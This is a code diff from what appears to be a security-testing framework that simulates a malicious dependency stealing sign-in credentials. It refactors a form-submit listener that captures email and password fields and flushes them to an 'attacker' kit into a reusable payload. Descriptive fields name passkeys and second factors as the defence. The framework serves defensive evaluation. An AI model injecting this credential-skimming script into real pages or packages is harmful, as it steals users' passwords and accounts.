@@ -3,6 +3,20 @@
 import { stopped, succeeded, type Attack } from '../attack.ts'
 import { told } from '../scene.ts'
 import { awaitLoot, fruitless } from './loot.ts'
+import type { Payload } from '../world/payload.ts'
+
+const script: Payload = (kit) => {
+  addEventListener(
+    'submit',
+    ({ target }) => {
+      const { elements } = target as HTMLFormElement
+      kit.take('email', (elements.namedItem('email') as HTMLInputElement | null)?.value)
+      kit.take('password', (elements.namedItem('password') as HTMLInputElement | null)?.value)
+      setTimeout(() => void kit.flush(), 1)
+    },
+    true,
+  )
+}
 
 export const earlyPassword: Attack = {
   name: 'early-password',
@@ -11,6 +25,7 @@ export const earlyPassword: Attack = {
   what: 'The dependency listens to the sign-in form and sends e-mail and password to the attacker, who signs in with them.',
   why: 'A password is a secret that can be copied. Whoever has it is the person, until it is changed.',
   stops: 'A second factor or a passkey, which cannot be typed. None of the targets has one.',
+  script: { when: 'early', payload: script },
   control: 'session',
   succeedsOn: [
     'session',
@@ -24,18 +39,7 @@ export const earlyPassword: Attack = {
     'hallpass-strict',
   ],
   async run(scene) {
-    scene.injectEarly((kit) => {
-      addEventListener(
-        'submit',
-        ({ target }) => {
-          const { elements } = target as HTMLFormElement
-          kit.take('email', (elements.namedItem('email') as HTMLInputElement | null)?.value)
-          kit.take('password', (elements.namedItem('password') as HTMLInputElement | null)?.value)
-          setTimeout(() => void kit.flush(), 1)
-        },
-        true,
-      )
-    })
+    scene.injectEarly(script)
     const page = await scene.open()
     await told(page, 'ready')
     const installed = await scene.thief.report()
